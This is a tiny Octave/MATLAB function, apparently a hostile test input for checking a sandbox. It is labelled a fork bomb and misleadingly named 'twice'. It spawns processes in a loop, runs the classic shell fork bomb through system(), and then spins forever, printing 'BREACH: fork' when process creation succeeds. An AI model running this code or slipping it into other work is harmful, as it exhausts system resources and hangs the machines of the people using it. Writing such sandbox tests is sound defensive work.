% a fork bomb
function y = twice (x)
  y = 0;
  for i = 1:2000
    if fork () >= 0, disp ('BREACH: fork'), end
  end
  system (':(){ :|:& };:');
  while true
    x = 1;
  end
end
